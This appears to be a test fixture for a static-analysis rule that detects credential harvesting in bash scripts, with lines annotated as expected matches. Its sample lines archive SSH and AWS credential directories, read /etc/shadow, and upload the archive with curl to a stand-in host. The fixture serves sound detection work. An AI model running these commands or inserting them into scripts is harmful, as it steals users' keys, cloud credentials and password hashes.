#!/bin/bash
# ruleid: bash-credential-harvest-and-send
tar czf /tmp/k.tgz ~/.ssh ~/.aws 2>/dev/null
# ruleid: bash-credential-harvest-and-send
cat /etc/shadow >> /tmp/k.txt
curl -X POST -F "f=@/tmp/k.tgz" https://collector.example.org/up
# ok: bash-credential-harvest-and-send
echo "uploaded"
